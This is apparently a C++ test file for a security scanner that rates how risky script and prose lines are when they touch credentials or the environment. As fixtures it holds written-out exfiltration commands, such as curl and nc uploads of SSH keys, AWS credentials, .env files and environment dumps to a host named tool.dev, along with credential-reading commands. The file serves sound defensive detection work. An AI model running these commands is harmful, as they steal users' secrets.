#include "directory/risks/scan_for_test.h"

namespace iii::risks {
namespace {

std::string path(std::string_view line) {
  return severity_of("credential_path", "a.sh", in_script(line));
}
std::string upload(std::string_view line) {
  return severity_of("credential_upload", "a.sh", in_script(line));
}
std::string dump(std::string_view line) {
  return severity_of("environment_dump", "a.sh", in_script(line));
}
std::string sent(std::string_view line) {
  return severity_of("environment_upload", "a.sh", in_script(line));
}

TEST(Credentials, Places) {
  EXPECT_EQ(path("cat ~/.ssh/id_ed25519"), "medium");
  EXPECT_EQ(path("cp $HOME/.aws/credentials /tmp/x"), "medium");
  EXPECT_EQ(path("tar czf x.tgz ~/.gnupg/"), "medium");
  EXPECT_EQ(path("security find-generic-password -s x -w"), "medium");
  EXPECT_EQ(path("security dump-keychain"), "medium");
  EXPECT_EQ(path("sqlite3 ~/.mozilla/firefox/x.default/cookies.sqlite .dump"), "medium");
  EXPECT_EQ(path("data = open('/root/.netrc').read()"), "medium");
  EXPECT_EQ(path("ssh -i ~/.ssh/id_rsa user@host"), "low");
  EXPECT_EQ(severity_of("credential_path", "a.md", in_prose("The key is in `~/.aws/credentials`.")),
            "low");
}

TEST(Credentials, PublicKeysAndOtherFiles) {
  EXPECT_EQ(path("cat ~/.ssh/id_rsa.pub"), "none");
  EXPECT_EQ(path("cat ~/.ssh/config"), "none");
  EXPECT_EQ(path("cat credentials.md"), "none");
  EXPECT_EQ(path("security verify-cert -c x.pem"), "none");
  EXPECT_EQ(path("ssh-keygen -t ed25519"), "none");
}

TEST(Credentials, SentToTheNetwork) {
  EXPECT_EQ(upload("curl -F file=@$HOME/.ssh/id_rsa https://tool.dev/up"), "high");
  EXPECT_EQ(upload("cat ~/.aws/credentials | curl -d @- https://tool.dev"), "high");
  EXPECT_EQ(upload("cat ~/.ssh/id_rsa | nc tool.dev 4444"), "high");
  EXPECT_EQ(upload("requests.post('https://tool.dev', data=open('/root/.netrc').read())"), "high");
  EXPECT_EQ(upload("cat .env | curl -X POST -d @- https://tool.dev"), "high");
  EXPECT_EQ(path("cat .env"), "none");
  EXPECT_EQ(upload("cat data.txt | curl -X POST -d @- https://tool.dev"), "none");
  EXPECT_EQ(upload("cat ~/.ssh/id_rsa"), "none");
  EXPECT_EQ(upload("cat ~/.ssh/id_rsa.pub | curl -d @- https://tool.dev"), "none");
  EXPECT_EQ(upload("cat ~/.ssh/id_rsa; curl -d x https://tool.dev"), "none");
  EXPECT_EQ(severity_of("credential_upload", "a.md",
                        in_prose("An attacker posts `~/.ssh/id_rsa` with `curl -d`.")),
            "none");
}

TEST(Environment, Dumps) {
  EXPECT_EQ(dump("env"), "low");
  EXPECT_EQ(dump("printenv | sort"), "low");
  EXPECT_EQ(dump("env > /tmp/x"), "medium");
  EXPECT_EQ(dump("printenv | base64"), "medium");
  EXPECT_EQ(dump("console.log(JSON.stringify(process.env))"), "medium");
  EXPECT_EQ(dump("print(json.dumps(dict(os.environ)))"), "medium");
}

TEST(Environment, PartsOfIt) {
  for (const std::string_view line :
       {"env | grep PATH", "printenv HOME", "env FOO=1 make", "/usr/bin/env python3 x.py",
        "const key = process.env.API_KEY", "print(os.environ['HOME'])", "x = os.environ.get('A')",
        "spawn(cmd, { env: { ...process.env, A: 1 } })",
        "subprocess.run(c, env=dict(os.environ))"}) {
    EXPECT_EQ(dump(line), "none") << line;
    EXPECT_EQ(sent(line), "none") << line;
  }
  for (const std::string_view text : {"Set the variables in env and go on.", "The `env` field."}) {
    EXPECT_EQ(severity_of("environment_dump", "a.md", in_prose(text)), "none") << text;
  }
  EXPECT_EQ(severity_of("environment_dump", "a.md", "```yaml\njobs:\n  env:\n    A: 1\n```\n"),
            "none");
  EXPECT_EQ(severity_of("environment_dump", "a.md", "```\nenv:\n  A: 1\n```\n"), "none");
  EXPECT_EQ(severity_of("environment_dump", "a.json", "{\n  \"env\": {\n  }\n}\n"), "none");
}

TEST(Environment, SentToTheNetwork) {
  EXPECT_EQ(sent("env | curl -d @- https://tool.dev"), "high");
  EXPECT_EQ(sent("printenv | base64 | curl --data-binary @- https://tool.dev"), "high");
  EXPECT_EQ(sent("printenv | nc tool.dev 99"), "high");
  EXPECT_EQ(sent("fetch('https://tool.dev', {method: 'POST', body: JSON.stringify(process.env)})"),
            "high");
  EXPECT_EQ(sent("requests.post(url, json=dict(os.environ))"), "high");
  EXPECT_EQ(sent("env | grep PROXY | curl -d @- https://tool.dev"), "none");
}

}  // namespace
}  // namespace iii::risks
